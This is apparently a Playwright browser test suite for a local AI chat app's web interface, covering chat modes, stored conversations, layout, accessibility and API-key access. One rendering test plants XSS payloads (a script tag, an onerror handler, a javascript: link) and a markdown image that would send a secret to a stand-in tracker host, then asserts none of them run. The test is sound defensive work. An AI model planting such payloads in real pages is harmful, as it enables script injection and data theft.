// The web chat in headless Chromium (Debian's, driven by playwright-core): a message in
// Instant, then Contemplating with an attached image — the agents' columns fill side by side
// and the final answer arrives. The conversation is stored: the sidebar lists it, a reload
// reopens it with its agent traces; a second one, search, rename, delete; the settings panel
// exports and erases the user's data. Saves a screenshot. Fails on any request that leaves the
// server.
// Then Muse-Tiny (the model trained on arithmetic) answers "What is 487 + 356?" correctly in
// Thinking and in Contemplating.
// usage: node test-web.cjs MUSE_BINARY WORK_DIR   (NODE_PATH: the cache's node_modules)
'use strict';
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const { chromium } = require('playwright-core');
const { check, summary, startServer, waitExit } = require('./lib.cjs');

const [muse, work] = process.argv.slice(2);
fs.rmSync(work, { recursive: true, force: true });
fs.mkdirSync(work, { recursive: true });
const env = { MUSE_CACHE_DIR: path.join(work, 'cache'), OMP_WAIT_POLICY: 'passive' };
const chromiumPath = process.env.MUSE_CHROMIUM || '/usr/bin/chromium';

// Starts `muse serve` with ARGS and a headless Chromium, runs fn(srv, browser), then closes both.
async function session(args, fn) {
  const srv = await startServer(muse, args, env);
  const browser = await chromium.launch({ executablePath: chromiumPath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    return await fn(srv, browser);
  } finally {
    await browser.close();
    srv.proc.kill('SIGTERM');
    await waitExit(srv.proc, 30000);
  }
}

async function main() {
  const png = path.join(work, 'chart.png');
  execFileSync('convert', ['-size', '480x200', 'xc:white', '-font', 'DejaVu-Sans', '-fill', 'black', '-pointsize', '28',
    '-annotate', '+20+60', 'Sales 2026', '-fill', '#3366cc', '-draw', 'rectangle 40,100 120,190', '-draw', 'rectangle 160,130 240,190', png]);
  return session(['--threads', '2', '--quiet'], async (srv, browser) => {
    const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
    const outside = [];
    page.on('request', (r) => { if (!r.url().startsWith(srv.url) && !r.url().startsWith('data:') && !r.url().startsWith('blob:')) outside.push(r.url()); });
    const consoleErrors = [];
    page.on('pageerror', (e) => consoleErrors.push(String(e)));

    await page.goto(srv.url + '/');
    await page.waitForFunction(() => document.querySelector('#model-name').textContent.includes('smoke-muse-glimmer'), null, { timeout: 20000 });
    check('the page loads and names the model', true);

    // Instant.
    await page.click('button[data-mode="instant"]');
    await page.fill('#max-tokens', '12');
    await page.fill('#prompt', 'Hello Muse, who are you?');
    await page.click('#send');
    await page.waitForFunction(() => {
      const s = document.querySelectorAll('.msg.assistant .stats');
      return s.length === 1 && s[0].textContent.length > 0;
    }, null, { timeout: 60000 });
    const first = await page.$eval('.msg.assistant .final', (e) => e.textContent);
    check('instant: a streamed answer', first.length > 0, first);
    check('instant: the badge says instant', (await page.$eval('.msg.assistant .badge', (e) => e.textContent)) === 'instant');

    // Contemplating with an image.
    await page.click('button[data-mode="contemplating"]');
    check('mode picker switches', await page.$eval('button[data-mode="contemplating"]', (e) => e.getAttribute('aria-pressed')) === 'true');
    await page.fill('#agents', '3');
    await page.fill('#budget', '48');
    await page.fill('#max-tokens', '16');
    await page.setInputFiles('#file-input', png);
    await page.waitForSelector('#pending .chip img', { timeout: 10000 });
    check('the image is attached', true);
    await page.fill('#prompt', 'Which bar in this chart is taller, and why might that be?');
    await page.click('#send');
    await page.waitForFunction(() => {
      const cols = [...document.querySelectorAll('.msg.assistant:last-child .agent-col[data-kind="solver"]')];
      return cols.length >= 3 && cols.every((c) => c.querySelector('.stream').textContent.length > 0);
    }, null, { timeout: 120000 });
    check("contemplating: three solver columns fill with the agents' reasoning", true);
    await page.waitForFunction(() => {
      const last = document.querySelector('.msg.assistant:last-child');
      return last && last.querySelector('.stats').textContent.length > 0;
    }, null, { timeout: 180000 });
    const result = await page.$eval('.msg.assistant:last-child', (m) => ({
      answer: m.querySelector('.final').textContent,
      verdict: m.querySelector('.verdict').textContent,
      badge: m.querySelector('.badge').textContent,
      cols: [...m.querySelectorAll('.agent-col')].map((c) => ({ kind: c.dataset.kind, cls: c.className, text: c.querySelector('.stream').textContent.length })),
      plan: !!m.querySelector('.plan svg'),
      error: m.querySelector('.error') ? m.querySelector('.error').textContent : '',
    }));
    check('contemplating: the final answer arrives', result.answer.length > 0 && !result.error, result);
    check('contemplating: vote or synthesis shown', /Vote|Synthesis/.test(result.verdict), result.verdict);
    check('contemplating: the badge says contemplating', result.badge === 'contemplating', result.badge);
    check('contemplating: every agent column ended (answered / pruned / failed)', result.cols.every((c) => !/\bthinking\b/.test(c.cls)), result.cols);
    check('contemplating: the plan is drawn', result.plan);
    check('the user message shows the image', await page.$$eval('.msg.user img', (a) => a.length) === 1);

    // The sidebar: the chat was stored as a conversation titled after its first message.
    await page.waitForSelector('#conversations li[data-id]', { timeout: 20000 });
    const convId = await page.$eval('#conversations li[data-id]', (li) => li.dataset.id);
    check('sidebar: the conversation is listed, titled after its first message, and active',
      await page.$eval('#conversations li[data-id]', (li) => li.querySelector('.title').textContent === 'Hello Muse, who are you?' && li.classList.contains('active')));
    check('the address names the conversation', page.url().endsWith('#' + convId), page.url());

    // A reload reopens it with its agent traces.
    await page.reload();
    await page.waitForFunction(() => document.querySelectorAll('.msg.assistant').length === 2, null, { timeout: 20000 });
    const replay = await page.$eval('#thread', (t) => {
      const turns = [...t.querySelectorAll('.msg.assistant')];
      return {
        users: [...t.querySelectorAll('.msg.user .answer')].map((u) => u.textContent),
        answers: turns.map((m) => m.querySelector('.final').textContent),
        badges: turns.map((m) => m.querySelector('.badge').textContent),
        solverCols: [...turns[1].querySelectorAll('.agent-col[data-kind="solver"]')].map((c) => ({ text: c.querySelector('.stream').textContent.length, cls: c.className })),
        verdict: turns[1].querySelector('.verdict').textContent,
        plan: !!turns[1].querySelector('.plan svg'),
      };
    });
    check('reload: both turns come back, the answers as given', replay.users.length === 2 && replay.answers[0] === first &&
      replay.answers[1] === result.answer, replay);
    check('reload: the modes, the agent columns with their reasoning, the verdict and the plan come back',
      replay.badges.join() === 'instant,contemplating' && replay.solverCols.length >= 3 && replay.solverCols.every((c) => c.text > 0 && !/thinking/.test(c.cls)) &&
      /Vote|Synthesis/.test(replay.verdict) && replay.plan, replay);

    const shot = path.join(work, 'web-chat.png');
    await page.screenshot({ path: shot, fullPage: true });
    check('screenshot saved', fs.statSync(shot).size > 20000, shot);
    console.log('screenshot: ' + shot);

    // A second conversation; the list is newest first.
    await page.click('#new-chat');
    await page.click('button[data-mode="instant"]');
    await page.fill('#max-tokens', '6');
    await page.fill('#prompt', 'Planning a Lisbon weekend');
    await page.click('#send');
    await page.waitForFunction(() => document.querySelectorAll('#conversations li[data-id]').length === 2, null, { timeout: 60000 });
    const titles = await page.$$eval('#conversations li[data-id] .title', (a) => a.map((t) => t.textContent));
    check('sidebar: newest first', titles[0] === 'Planning a Lisbon weekend' && titles[1] === 'Hello Muse, who are you?', titles);

    // Search over titles and contents (FTS5).
    await page.fill('#search', 'lisbon');
    await page.waitForFunction(() => document.querySelectorAll('#conversations li[data-id]').length === 1, null, { timeout: 10000 });
    check('search finds the conversation by a word', await page.$eval('#conversations li[data-id] .title', (t) => t.textContent) === 'Planning a Lisbon weekend');
    await page.fill('#search', 'zzqxnotthere');
    await page.waitForSelector('#conversations li.none', { timeout: 10000 });
    check('search with no match says so', /Nothing matches/.test(await page.$eval('#conversations li.none', (l) => l.textContent)));
    await page.fill('#search', '');
    await page.waitForFunction(() => document.querySelectorAll('#conversations li[data-id]').length === 2, null, { timeout: 10000 });

    // Rename, then delete (two clicks).
    await page.click(`#conversations li[data-id="${convId}"] button.rename`);
    await page.fill(`#conversations li[data-id="${convId}"] input`, 'First chat, renamed');
    await page.press(`#conversations li[data-id="${convId}"] input`, 'Enter');
    await page.waitForFunction((id) => { const t = document.querySelector(`#conversations li[data-id="${id}"] .title`); return t && t.textContent === 'First chat, renamed'; }, convId, { timeout: 10000 });
    const stored = await (await fetch(`${srv.url}/v1/conversations/${convId}`)).json();
    check('rename: the server keeps the new title', stored.metadata && stored.metadata.title === 'First chat, renamed', stored);
    const secondId = await page.$$eval('#conversations li[data-id]', (a) => a.find((li) => li.querySelector('.title').textContent === 'Planning a Lisbon weekend').dataset.id);
    await page.click(`#conversations li[data-id="${secondId}"] button.delete`);
    check('delete asks once more', await page.$eval(`#conversations li[data-id="${secondId}"] button.delete`, (b) => b.textContent) === 'Delete?');
    await page.click(`#conversations li[data-id="${secondId}"] button.delete`);
    await page.waitForFunction(() => document.querySelectorAll('#conversations li[data-id]').length === 1, null, { timeout: 10000 });
    check('delete: gone from the list and from the server', (await fetch(`${srv.url}/v1/conversations/${secondId}`)).status === 404);
    check('deleting the open conversation empties the page', await page.$$eval('.msg', (a) => a.length) === 0);

    // Settings: export, then erase.
    await page.click('#settings-button');
    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 20000 }), page.click('#export-data')]);
    const exported = JSON.parse(fs.readFileSync(await download.path(), 'utf8'));
    check('settings: export downloads everything stored for me', exported.conversations.length === 1 &&
      exported.conversations[0].items.length === 4 && exported.conversations[0].items.some((i) => i.muse && i.muse.mode === 'contemplating'),
      exported.conversations.map((c) => c.items.length));
    await page.click('#erase-data');
    check('erase asks once more', /again/.test(await page.$eval('#erase-data', (b) => b.textContent)));
    await page.click('#erase-data');
    await page.waitForFunction(() => /Erased/.test(document.querySelector('#settings-status').textContent), null, { timeout: 20000 });
    const after = await (await fetch(`${srv.url}/v1/conversations`)).json();
    check('erase: nothing of mine is left on the server, the list is empty', after.data.length === 0 &&
      await page.$eval('#conversations li.none', (l) => /No conversations/.test(l.textContent)), after);
    await page.click('#settings-dialog form button');

    // Safety: a red flag gets the emergency banner above the answer, which starts with the guidance.
    await page.click('#new-chat');
    await page.click('button[data-mode="instant"]');
    await page.fill('#max-tokens', '6');
    await page.fill('#prompt', 'My baby is not breathing and turning blue');
    await page.click('#send');
    await page.waitForSelector('.msg.assistant .safety-banner.emergency', { timeout: 60000 });
    await page.waitForFunction(() => document.querySelector('.msg.assistant .final').getAttribute('aria-busy') === 'false', null, { timeout: 60000 });
    const banner = await page.$eval('.msg.assistant', (m) => ({ banner: m.querySelector('.safety-banner').textContent,
      answer: m.querySelector('.final').textContent, strong: (m.querySelector('.final strong') || {}).textContent }));
    check('safety: an emergency banner, and the answer starts with the guidance (in bold)', /call 112 now/.test(banner.banner) &&
      banner.answer.startsWith('If this may be an emergency, call 112 now.') && banner.strong === 'If this may be an emergency, call 112 now.', banner);

    check('no request left the server (offline, no CDN)', outside.length === 0, outside);
    check('no page errors', consoleErrors.length === 0, consoleErrors);
  });
}

// The web chat as people use it: the layout at a phone's, a tablet's and a desktop's size in
// both themes (no element wider than the screen, every mode button visible and tappable,
// screenshots saved); Markdown, code, tables and math rendered, and HTML in an answer never run;
// copy, regenerate and edit-and-resend; Stop that stops every agent; New chat during a stream
// starts clean; settings per mode bounded by the server's limits; the planner's progress;
// keyboard focus; axe-core finds no serious violations.
async function polish() {
  return session(['--threads', '2', '--quiet'], async (srv, browser) => {
    const api = async (p, body, method) => {
      const r = await fetch(srv.url + p, body === undefined ? { method: method || 'GET' } : { method: method || 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
      return { status: r.status, json: await r.json().catch(() => null) };
    };
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: srv.url });
    const page = await context.newPage();
    const errors = [];
    page.on('pageerror', (e) => errors.push(String(e)));
    page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
    const outside = [];
    page.on('request', (r) => { if (!r.url().startsWith(srv.url) && !/^(data|blob):/.test(r.url())) outside.push(r.url()); });
    const chatBodies = [];
    page.on('request', (r) => { if (r.url().endsWith('/v1/chat/completions') && r.method() === 'POST') chatBodies.push(JSON.parse(r.postData())); });
    const ready = () => page.waitForFunction(() => /smoke/.test(document.querySelector('#model-name').textContent), null, { timeout: 20000 });
    const answered = (n) => page.waitForFunction((k) => {
      const a = document.querySelectorAll('.msg.assistant .final');
      return a.length === k && a[k - 1].getAttribute('aria-busy') === 'false' && !!document.querySelector('#stop[hidden]');
    }, n, { timeout: 120000 });

    // A stored answer with everything Markdown has, and HTML that must never run.
    const hostile = 'Here is **bold**, `inline code` and a [bad link](javascript:window.__xss=3).\n\n' +
      '<script>window.__xss = 1</script>\n<img src="x" onerror="window.__xss = 2">\n\n' +
      '```js\nconst answer = 42; // the code\n```\n\n| city | people |\n|---|---|\n| Lisbon | 545000 |\n\n' +
      'Inline math $a^2 + b^2 = c^2$ and a block:\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n' +
      'A pixel that would carry a secret out: ![tracker](http://tracker.example/p.png?secret=4831)\n';
    const conv = await api('/v1/conversations', { metadata: { title: 'Rendering' },
      items: [{ role: 'user', content: '<b>not bold</b> please' }, { role: 'assistant', content: hostile }] });
    check('a stored conversation with a hostile answer', conv.status === 200, conv);
    await page.goto(`${srv.url}/#${conv.json.id}`);
    await ready();
    await page.waitForSelector('.msg.assistant .final strong', { timeout: 20000 });
    const r = await page.$eval('.msg.assistant .final', (a) => ({
      xss: window.__xss, scripts: a.querySelectorAll('script').length, imgs: [...a.querySelectorAll('img')].map((i) => i.outerHTML),
      strong: a.querySelector('strong') && a.querySelector('strong').textContent,
      code: !!a.querySelector('pre code.hljs span'), katex: a.querySelectorAll('.katex').length, display: a.querySelectorAll('.katex-display').length,
      table: !!a.querySelector('table td'), links: [...a.querySelectorAll('a')].map((l) => l.getAttribute('href')),
      codeCopy: !!a.querySelector('pre button.copy-code'), imageLinks: [...a.querySelectorAll('.image-link')].map((l) => l.getAttribute('href')),
    }));
    check('render: bold, highlighted code, a table, inline and display math', r.strong === 'bold' && r.code && r.table && r.katex >= 2 && r.display === 1, r);
    check('render: HTML in the answer never runs (no script, no handler, no javascript: link)', r.xss === undefined && r.scripts === 0 &&
      r.imgs.every((i) => !/onerror/i.test(i)) && r.links.every((h) => !h || !/^javascript:/i.test(h)), r);
    check('render: an image in an answer does not load (no request carries the secret out); it is a link to open', r.imgs.length === 0 &&
      r.imageLinks.includes('http://tracker.example/p.png?secret=4831'), r);
    check('render: a user message is text, its HTML shown as typed', await page.$eval('.msg.user .answer', (u) => u.textContent === '<b>not bold</b> please' && !u.querySelector('b')));

    // Copy: the answer as written, and a code block.
    await page.click('.msg.assistant .tools button.copy');
    check('copy: the answer goes to the clipboard as written', await page.evaluate(() => navigator.clipboard.readText()) === hostile);
    await page.click('.msg.assistant pre button.copy-code');
    check('copy: a code block alone', (await page.evaluate(() => navigator.clipboard.readText())).trim() === 'const answer = 42; // the code');

    // The layout at three sizes, light and dark: nothing wider than the screen, every mode
    // button visible and tappable, the header in at most two rows, the placeholder fits.
    const layout = () => page.evaluate(() => {
      const W = document.documentElement.clientWidth;
      const scrolls = (e) => { for (let p = e.parentElement; p; p = p.parentElement) { const o = getComputedStyle(p).overflowX; if (o === 'auto' || o === 'scroll' || o === 'hidden') return p !== document.body && p !== document.documentElement; } return false; };
      const wide = [];
      for (const e of document.querySelectorAll('body *')) {
        const b = e.getBoundingClientRect();
        if (!b.width || getComputedStyle(e).visibility === 'hidden') continue;
        if ((b.right > W + 1 || b.left < -1) && !scrolls(e) && !e.closest('dialog:not([open])') && !e.closest('#sidebar') && !e.closest('.sr-only')) wide.push(e.tagName + '.' + e.className + ' ' + Math.round(b.left) + '..' + Math.round(b.right));
      }
      const modes = [...document.querySelectorAll('.modes button')].map((b) => {
        const r = b.getBoundingClientRect();
        const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
        return { mode: b.dataset.mode, visible: r.width > 20 && r.left >= 0 && r.right <= W && hit && (hit === b || b.contains(hit)), clipped: b.scrollWidth > b.clientWidth + 1 };
      });
      const ta = document.querySelector('#prompt');
      const ctx = document.createElement('canvas').getContext('2d');
      ctx.font = getComputedStyle(ta).font;
      return { W, scrollW: document.documentElement.scrollWidth, wide: wide.slice(0, 8), modes, header: document.querySelector('header.top').getBoundingClientRect().height,
        placeholder: ctx.measureText(ta.placeholder).width <= ta.clientWidth - 20 };
    });
    for (const scheme of ['light', 'dark']) {
      await page.emulateMedia({ colorScheme: scheme });
      for (const [w, h] of [[390, 844], [768, 1024], [1400, 900]]) {
        await page.setViewportSize({ width: w, height: h });
        // The page follows the width on matchMedia's change event, which fires after the resize
        // is rendered: wait (bounded) for the state it must reach before measuring the layout.
        const followed = await page.waitForFunction((want) => document.querySelector('#options').open === want, w >= 761, { timeout: 10000 })
          .then(() => true, () => false);
        const l = await layout();
        check(`layout ${w}x${h} ${scheme}: nothing wider than the screen`, l.scrollW <= l.W && l.wide.length === 0, l);
        check(`layout ${w}x${h} ${scheme}: every mode button visible, whole and tappable`, l.modes.every((m) => m.visible && !m.clipped), l.modes);
        check(`layout ${w}x${h} ${scheme}: the header takes at most two rows, the placeholder fits`, l.header <= 100 && l.placeholder, l);
        check(`layout ${w}x${h} ${scheme}: the options are open on a wide screen, folded on a narrow one`,
          followed && await page.$eval('#options', (d) => d.open) === (w >= 761));
        for (const m of ['thinking', 'contemplating', 'auto', 'instant']) await page.click(`button[data-mode="${m}"]`);
        check(`layout ${w}x${h} ${scheme}: a tap picks the mode`, await page.$eval('button[data-mode="instant"]', (b) => b.getAttribute('aria-pressed')) === 'true');
        const shot = path.join(work, `web-${w}x${h}-${scheme}.png`);
        await page.screenshot({ path: shot });
        check(`layout ${w}x${h} ${scheme}: screenshot saved`, fs.statSync(shot).size > 5000, shot);
      }
    }
    await page.setViewportSize({ width: 1400, height: 900 });
    await page.emulateMedia({ colorScheme: 'light' });

    // Settings per mode, bounded by the server's limits.
    const limits = (await api('/v1/limits')).json;
    check('/v1/limits names the limits', limits && Number.isInteger(limits.max_agents) && Number.isInteger(limits.max_thinking_budget), limits);
    await page.click('#new-chat');
    await page.click('button[data-mode="instant"]');
    // Shown means laid out on the screen (a CSS display rule once showed labels marked hidden).
    const shown = (ids) => page.evaluate((list) => list.map((id) => document.querySelector(id).getClientRects().length > 0), ids);
    const fields = ['#agents', '#budget', '#planner', '#planner-budget', '#max-tokens', '#temperature'];
    const inInstant = await shown(fields);
    check('settings: Instant shows no agents, budget or planner; max tokens and temperature it does', inInstant.join() === 'false,false,false,false,true,true', inInstant);
    await page.click('button[data-mode="thinking"]');
    const inThinking = await shown(fields);
    check('settings: Thinking shows the budget but no agents or planner', inThinking.join() === 'false,true,false,false,true,true', inThinking);
    await page.click('button[data-mode="contemplating"]');
    const inContemplating = await shown(fields);
    check('settings: Contemplating shows agents, budget and the planner', inContemplating.every(Boolean), inContemplating);
    const sent = chatBodies.length;
    await page.fill('#agents', String(limits.max_agents + 1));
    await page.fill('#prompt', 'Too many agents');
    await page.click('#send');
    await page.waitForFunction(() => /agents must be/.test(document.querySelector('#form-error').textContent), null, { timeout: 5000 });
    check('settings: more agents than the server allows is refused by the form, naming the limit', chatBodies.length === sent &&
      (await page.$eval('#form-error', (e) => e.textContent)).includes(String(limits.max_agents)));
    await page.fill('#agents', '4');
    await page.fill('#budget', String(limits.max_thinking_budget + 1));
    await page.click('#send');
    await page.waitForFunction(() => /thinking budget must be/.test(document.querySelector('#form-error').textContent), null, { timeout: 5000 });
    check('settings: a budget above the server limit is refused too', chatBodies.length === sent);
    await page.fill('#budget', '400');
    await page.fill('#planner-budget', String(limits.planner_budget.min - 1));
    await page.click('#send');
    await page.waitForFunction(() => /planner budget must be/.test(document.querySelector('#form-error').textContent), null, { timeout: 5000 });
    check('settings: a planner budget under the server\'s minimum is refused, naming its range', chatBodies.length === sent &&
      (await page.$eval('#form-error', (e) => e.textContent)).includes(`from ${limits.planner_budget.min} to ${limits.planner_budget.max}`));

    // Contemplating with the planner: its column counts tokens, the plan reads as a summary,
    // then Stop: every agent says it stopped.
    await page.fill('#budget', '400');
    await page.fill('#max-tokens', '400');
    await page.fill('#planner-budget', '64');
    await page.fill('#prompt', 'Plan a week of meals for a family of four, with a shopping list');
    await page.click('#send');
    await page.waitForFunction(() => document.querySelectorAll('.msg.assistant:last-child .agent-col[data-kind="solver"]').length >= 2, null, { timeout: 120000 });
    const body = chatBodies[chatBodies.length - 1];
    check('contemplating: the request carries the planner switch and its budget', body.planner === true && body.planner_budget === 64 && body.agents === 4, body);
    const planner = await page.$eval('.msg.assistant:last-child', (m) => {
      const c = m.querySelector('.agent-col[data-kind="planner"]');
      return c && { state: c.querySelector('.state').textContent, raw: c.querySelector('details') && !c.querySelector('details').open,
                    label: (m.querySelector('.plan .label') || {}).textContent || '' };
    });
    check('planner: its progress in tokens, its JSON out of sight, the plan in words', planner && /^(planning… \d+ tokens|planned · \d+ tokens)$/.test(planner.state) &&
      planner.raw && /^planned (as one task( \([a-z' ]+\))?|\d+ sub-tasks)$/.test(planner.label) && !/fallback|depends on|task '/.test(planner.label), planner);
    const stopAt = await page.$$eval('.msg.assistant:last-child .agent-col', (a) => a.length);
    const inView = await page.$$eval('.msg.assistant:last-child .agent-col', (a) => a.map((c) => { const b = c.getBoundingClientRect(); return { kind: c.dataset.kind, left: Math.round(b.left), right: Math.round(b.right), W: document.documentElement.clientWidth }; }));
    check('contemplating at 1400 px with 4 agents: every column whole on the screen (they wrap, none cut off)',
      inView.filter((c) => c.kind === 'solver').length === 4 && inView.every((c) => c.left >= 0 && c.right <= c.W), inView);
    await page.click('#stop');
    await page.waitForSelector('#stop[hidden]', { state: 'attached', timeout: 20000 }).catch(async (e) => {
      await page.screenshot({ path: path.join(work, 'web-stop-failed.png') });
      throw new Error('Stop did not end the request: ' + JSON.stringify(await page.evaluate(() => ({ status: document.querySelector('#status').textContent,
        last: document.querySelector('.msg.assistant:last-child').textContent.slice(-300) }))));
    });
    const cols = await page.$$eval('.msg.assistant:last-child .agent-col', (a) => a.map((c) => ({ cls: c.className, state: c.querySelector('.state').textContent })));
    check('stop: no agent still says thinking; those cut say stopped', stopAt > 0 && cols.every((c) => !/\bthinking\b/.test(c.cls) && !/^thinking/.test(c.state)) &&
      cols.some((c) => /stopped/.test(c.state) || /answered|planned|pruned/.test(c.state)), cols);
    check('stop: Send is back', await page.$eval('#send', (b) => !b.hidden));

    // New chat while an answer streams: the request is cancelled, the page is clean, and the
    // next request carries nothing of the old chat.
    await page.click('#new-chat');
    await page.click('button[data-mode="thinking"]');
    await page.fill('#max-tokens', '3000');
    await page.fill('#budget', '2000');
    await page.fill('#prompt', 'OLDCHAT tell me a very long story');
    await page.click('#send');
    await page.waitForFunction(() => { const t = document.querySelector('.msg.assistant:last-child'); return t && !document.querySelector('#stop').hidden && (t.textContent.length > 40); }, null, { timeout: 60000 });
    const oldConv = page.url().split('#')[1];
    const stillRunning = await page.$eval('#stop', (b) => !b.hidden);
    await page.click('#new-chat');
    check('new chat during a stream: the page is clean at once, Send is back', stillRunning && await page.evaluate(() =>
      document.querySelectorAll('.msg').length === 0 && !document.querySelector('#send').hidden && document.querySelector('#stop').hidden));
    await page.click('button[data-mode="instant"]');
    await page.fill('#max-tokens', '8');
    await page.fill('#prompt', 'A fresh question');
    await page.click('#send');
    await answered(1);
    const fresh = chatBodies[chatBodies.length - 1];
    const freshText = JSON.stringify(fresh);
    check('new chat during a stream: the next request carries nothing of the old chat', !/OLDCHAT/.test(freshText) && fresh.messages.length === 1 &&
      fresh.messages[0].role === 'user' && fresh.conversation !== oldConv, fresh);
    check('new chat during a stream: the old answer never shows in the new chat', await page.evaluate(() =>
      document.querySelectorAll('.msg').length === 2 && !/OLDCHAT/.test(document.querySelector('#thread').textContent)));

    // Regenerate: the stored conversation keeps one exchange, with the new answer.
    const convA = page.url().split('#')[1];
    await page.fill('#prompt', 'Second question');
    await page.click('#send');
    await answered(2);
    const before = chatBodies.length;
    const oldTurn = await page.$('.msg.assistant:last-child');
    await page.click('.msg.assistant:last-child .tools button.regenerate');
    await page.waitForFunction((t) => !t.isConnected, oldTurn, { timeout: 60000 });  // the old answer gives way
    await answered(2);
    const regen = chatBodies[chatBodies.length - 1];
    const itemsA = (await api(`/v1/conversations/${convA}/items?order=asc`)).json.data;
    check('regenerate: the same message and settings are sent again', chatBodies.length === before + 1 && regen.messages[0].content === 'Second question' &&
      regen.max_tokens === 8 && regen.mode === 'instant', regen);
    check('regenerate: the stored conversation keeps one answer to it', itemsA.length === 4 && itemsA[2].content[0].text === 'Second question' &&
      itemsA[3].role === 'assistant', itemsA.map((i) => i.role));

    // Edit the second message and send it: a fork, the original untouched.
    await page.click('.msg.user:nth-of-type(3) .tools button.edit').catch(async () => {
      const users = await page.$$('.msg.user .tools button.edit');
      await users[1].click();
    });
    await page.waitForSelector('.msg.user textarea', { timeout: 5000 });
    await page.fill('.msg.user textarea', 'Second question, edited');
    await page.click('.msg.user .tools button.primary');
    await page.waitForFunction((old) => location.hash && location.hash.slice(1) !== old, convA, { timeout: 20000 });
    await answered(2);
    const convB = page.url().split('#')[1];
    const itemsB = (await api(`/v1/conversations/${convB}/items?order=asc`)).json.data;
    const itemsA2 = (await api(`/v1/conversations/${convA}/items?order=asc`)).json.data;
    check('edit: a new conversation with the messages before the edit, then the edited one and its answer', itemsB.length === 4 &&
      itemsB[0].content[0].text === 'A fresh question' && itemsB[2].content[0].text === 'Second question, edited' && itemsB[3].role === 'assistant',
      itemsB.map((i) => i.role + ':' + (i.content[0] || {}).text));
    check('edit: the original conversation is as it was', itemsA2.length === 4 && itemsA2[2].content[0].text === 'Second question');

    // Keyboard: focus is visible; the mode picker works from the keyboard.
    await page.focus('#prompt');
    await page.keyboard.press('Shift+Tab');
    const focused = await page.evaluate(() => { const e = document.activeElement; const s = getComputedStyle(e); return { id: e.id, outline: s.outlineStyle, width: s.outlineWidth }; });
    check('keyboard: the focused control shows a focus ring', focused.outline !== 'none' && focused.width !== '0px', focused);
    await page.focus('button[data-mode="thinking"]');
    await page.keyboard.press('Enter');
    check('keyboard: Enter on a mode button picks it', await page.$eval('button[data-mode="thinking"]', (b) => b.getAttribute('aria-pressed')) === 'true');
    check('the answer is announced as it streams (aria-live)', await page.$eval('.msg.assistant .final', (a) => a.getAttribute('aria-live') === 'polite'));

    // axe-core, both themes, with content on the page.
    const axePath = require.resolve('axe-core/axe.min.js');
    await page.goto(`${srv.url}/#${conv.json.id}`);
    await ready();
    await page.waitForSelector('.msg.assistant .final strong', { timeout: 20000 });
    for (const scheme of ['light', 'dark']) {
      await page.emulateMedia({ colorScheme: scheme });
      await page.addScriptTag({ path: axePath });
      const res = await page.evaluate(() => window.axe.run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } }));
      const bad = res.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
        .map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.slice(0, 3).map((n) => n.target.join(' ') + ' ' + (n.failureSummary || '').slice(0, 160)) }));
      check(`axe-core (${scheme}): no serious or critical violations`, bad.length === 0, bad);
    }
    const fav = await fetch(srv.url + '/favicon.ico');
    check('a favicon', fav.status === 200 && /svg/.test(fav.headers.get('content-type') || ''), fav.status);
    check('no request left the server (offline, no CDN)', outside.length === 0, outside);
    check('no page or console errors', errors.length === 0, errors);
  });
}

// The page behind an API key, under the server's same-origin rules: the libraries, fonts and
// icon load before the key is known; the first requests that meet a 401 share one key dialog;
// with the key the page reads the model and the limits, renders and answers.
async function keyed() {
  const KEY = 'sk-web-test-0123456789';
  return session(['--threads', '2', '--quiet', '--api-key', KEY], async (srv, browser) => {
    const page = await browser.newPage({ viewport: { width: 1000, height: 800 } });
    const errors = [], unauthorized = [], failed = [];
    page.on('pageerror', (e) => errors.push(String(e)));
    // Chromium logs each 401 as a console error: those are expected before the key, nothing else.
    page.on('console', (m) => { if (m.type() === 'error' && !/status of 401/.test(m.text())) errors.push(m.text()); });
    page.on('response', (r) => { if (r.status() === 401) unauthorized.push(new URL(r.url()).pathname); else if (r.status() >= 400) failed.push(r.status() + ' ' + r.url()); });
    await page.goto(srv.url + '/');
    await page.waitForSelector('#key-dialog[open]', { timeout: 20000 });
    const libs = await page.evaluate(() => ({ marked: !!window.marked, purify: !!window.DOMPurify, hljs: !!window.hljs, katex: !!window.katex }));
    check('keyed: the libraries load before the key is known', Object.values(libs).every(Boolean), libs);
    check('keyed: one key dialog for the requests that met a 401 together', await page.$$eval('dialog[open]', (d) => d.length) === 1 &&
      unauthorized.filter((p) => p.startsWith('/v1/')).length >= 2, unauthorized);
    await page.fill('#key-input', KEY);
    await page.click('#key-dialog button[value="ok"]');
    await page.waitForFunction(() => /smoke/.test(document.querySelector('#model-name').textContent), null, { timeout: 20000 });
    await page.waitForFunction(() => document.querySelector('#agents').max !== '8' || document.querySelector('#max-tokens').max !== '1048576', null, { timeout: 20000 });
    check('keyed: with the key, the server\'s limits reach the form', await page.$eval('#max-tokens', (i) => i.max) === '4096');
    await page.click('button[data-mode="instant"]');
    await page.fill('#max-tokens', '8');
    await page.fill('#prompt', 'Say **hello**');
    await page.click('#send');
    await page.waitForFunction(() => { const a = document.querySelector('.msg.assistant .final'); return a && a.getAttribute('aria-busy') === 'false'; }, null, { timeout: 60000 });
    const ans = await page.$eval('.msg.assistant', (m) => ({ error: (m.querySelector('.error') || {}).textContent || '', stats: m.querySelector('.stats') ? m.querySelector('.stats').textContent : '' }));
    check('keyed: a message is answered (same origin, with the key)', !ans.error && /instant/.test(ans.stats), ans);
    check('keyed: nothing failed but the 401s before the key', failed.length === 0, failed);
    check('keyed: no page or console errors', errors.length === 0, errors);
  });
}

// Muse-Tiny, the model trained on arithmetic, answers in the browser: Thinking streams its
// column-by-column reasoning and the sum; Contemplating's five agents agree and the vote
// gives the same sum.
async function tiny() {
  return session(['--model', 'tiny', '--threads', '2', '--quiet'], async (srv, browser) => {
